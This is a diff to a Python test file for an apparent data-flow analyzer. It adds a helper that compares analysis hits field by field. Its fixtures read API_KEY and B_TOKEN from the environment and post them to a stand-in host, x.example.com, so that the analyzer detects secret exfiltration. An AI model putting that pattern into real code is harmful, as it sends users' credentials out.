@@ -9,7 +9,8 @@ from hypothesis import example, given, settings
 from hypothesis import strategies as st
 
 from sluicegate.vet.inspect.analyzers.pyflow import calls, interpreter, models, names
-from sluicegate.vet.inspect.analyzers.pyflow.hits import Sink
+from sluicegate.vet.inspect.analyzers.pyflow.frame import Analysis
+from sluicegate.vet.inspect.analyzers.pyflow.hits import Hit, Sink
 from sluicegate.vet.inspect.analyzers.pyflow.parse import Parsed, Unparsed, parse, surely_shallow
 from sluicegate.vet.inspect.analyzers.pyflow.silent import Silence, code_of, is_loud, tokens
 from sluicegate.vet.inspect.analyzers.python import PythonAnalyzer
@@ -308,6 +309,10 @@ CALLS = ("x = f(a, *b, k=a)", "y = os.getenv('API_KEY')", "a = len(y)", "print(y
 SENT = "requests.post('https://x.example.com', data=[a, b, x, y])"
 
 
+def _said(analysis: Analysis) -> list[object]:
+    return [(key, [getattr(hit, name) for name in Hit.__slots__]) for key, hit in analysis.hits.items()]
+
+
 @settings(max_examples=300, deadline=None)
 @given(st.lists(st.sampled_from(CALLS), min_size=2, max_size=9).map(lambda lines: "\n".join([*lines, SENT])))
 @example(f"import demo\ny = demo.go(k=os.getenv('B_TOKEN'))\n{SENT}")
@@ -318,6 +323,6 @@ def test_a_call_on_the_short_way_gives_the_same(text: str) -> None:
     with pytest.MonkeyPatch.context() as patch:
         patch.setattr(calls, "called", calls.invoke)
         slow = interpreter.analyse((view,), 100_000).analysis
-    assert outcome.hits == slow.hits
+    assert _said(outcome) == _said(slow)
     assert outcome.capabilities == slow.capabilities
     assert outcome.sites.table == slow.sites.table
